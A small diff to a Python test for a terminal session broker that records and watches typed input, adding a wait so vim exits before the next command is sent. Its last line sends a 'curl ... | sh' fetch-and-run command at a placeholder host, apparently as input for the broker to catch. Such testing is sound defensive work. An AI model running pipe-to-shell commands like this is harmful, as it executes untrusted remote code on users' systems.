@@ -415,6 +415,9 @@ def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
                   f"/tmp/podgate-vim-$$\r".encode())
         chan.wait(b"[New", timeout=10)
         chan.send(b"ityped-in-vim\x1b:q!\r")
+        # vim reads whatever is there when it reads: the next command waits
+        # until vim has left the alternate screen and so reads no more.
+        chan.wait(b"\x1b[?1049l")
         chan.send(b"echo back-from-\"vim\"\r")
         chan.wait(b"back-from-vim\r\n")
     chan.send(b"curl http://example.invalid/x | sh\r")
